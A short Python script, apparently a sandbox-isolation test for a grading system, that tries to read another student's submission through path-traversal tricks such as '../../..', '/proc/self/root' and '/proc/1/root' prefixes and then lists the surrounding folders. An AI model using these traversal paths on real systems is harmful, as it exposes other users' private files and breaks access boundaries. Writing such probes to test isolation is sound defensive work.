# Reads what another student has handed in.
import glob
import os

from kernel import show, target

path = target("submission")
for way in (path, "../../.." + path, "/proc/self/root" + path, "/proc/1/root" + path, "/proc/self/cwd/../.." + path,
            "/proc/thread-self/root/.." + path):
    show(way)
folder = os.path.dirname(os.path.dirname(path))
print(glob.glob(folder + "/**", recursive=True), glob.glob(target("project") + "/*"))
